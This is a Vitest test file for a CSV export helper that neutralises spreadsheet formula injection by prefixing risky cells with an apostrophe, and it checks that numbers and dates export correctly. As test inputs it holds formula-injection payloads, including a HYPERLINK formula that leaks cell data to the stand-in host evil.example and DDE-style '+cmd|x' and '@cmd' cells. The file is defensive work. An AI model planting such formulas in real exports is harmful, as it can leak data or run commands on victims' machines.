// CSV injection (issue 39): a cell a spreadsheet would open as a formula is written as text, in every export.
import { describe, expect, it } from 'vitest';
import { neutraliseFormula, toCsv } from '@/lib/rules/csv';

describe('neutraliseFormula', () => {
  it("prefixes ' to whatever starts with = + - @ a tab or a carriage return", () => {
    for (const cell of ['=HYPERLINK("http://evil.example","x")', '=1+1', '+cmd|x', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '-', '+'])
      expect(neutraliseFormula(cell), cell).toBe(`'${cell}`);
  });

  it('keeps plain numbers and ordinary text as they are', () => {
    for (const cell of ['-12.5', '+3', '-0', '1e5', '-1.5E-3', '42', 'PK-ABC', 'a=b', 'Wamena', '', "'quoted"])
      expect(neutraliseFormula(cell), cell).toBe(cell);
  });
});

describe('toCsv', () => {
  it('neutralises formula cells, numbers stay numbers, dates ISO, line breaks quoted', () => {
    const csv = toCsv(
      [
        { note: '=HYPERLINK("http://evil.example/?"&A1,"Click")', n: -12.5, d: new Date('2026-01-02T03:04:05Z'), ok: true },
        { note: '@cmd', n: null, d: null, ok: false },
        { note: 'one\rline', n: 0, d: null, ok: null },
      ],
      [
        { header: 'note', value: (r) => r.note },
        { header: 'n', value: (r) => r.n },
        { header: 'd', value: (r) => r.d },
        { header: 'ok', value: (r) => r.ok },
        { header: 'decimal', value: () => ({ toString: () => '-7.25' }) },
      ],
    );
    expect(csv).toBe(
      'note;n;d;ok;decimal\r\n' +
        `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")";-12.5;2026-01-02T03:04:05.000Z;true;-7.25\r\n` +
        "'@cmd;;;false;-7.25\r\n" +
        '"one\rline";0;;;-7.25\r\n',
    );
  });
});
